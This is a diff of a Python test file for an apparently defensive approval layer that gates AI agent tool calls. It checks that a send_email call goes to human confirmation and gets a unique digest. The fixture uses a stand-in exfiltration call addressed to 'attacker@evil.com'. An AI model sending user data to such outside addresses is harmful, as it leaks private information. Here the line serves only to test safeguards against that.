@@ -6,7 +6,7 @@ import pytest
 
 from agentserver.core.detail_form import fields
 from agentserver.provenance import Mode, Policy, explain
-from agentserver.provenance.approval import digest, question
+from agentserver.provenance.approval import digest
 from agentserver.provenance.explain import facts
 from agentserver.provenance.labels import Call, Leaf
 from agentserver.provenance.verdict import Decision
@@ -85,13 +85,11 @@ def test_the_data_is_json_with_the_same_facts() -> None:
     assert facts(scene().call("delete_all")).findings[0].role == ""
 
 
-def test_a_question_binds_to_one_call() -> None:
-    verdict = scene(Mode.CONFIRM).call("send_email", to="attacker@evil.com", body="x")
-    asked = question(verdict)
-    assert verdict.decision is Decision.ASK
-    assert asked.text.endswith("Allow this one call?")
-    assert "to = 'attacker@evil.com'" in asked.text
-    assert asked.digest == digest(verdict.call)
+def test_an_approval_binds_to_one_call() -> None:
+    one, other = (scene(Mode.CONFIRM).call("send_email", to="attacker@evil.com", body=body) for body in "xy")
+    assert one.decision is Decision.ASK
+    assert "attacker@evil.com" in explain(one)
+    assert digest(one.call) != digest(other.call)
 
 
 def test_two_calls_never_share_a_digest() -> None:
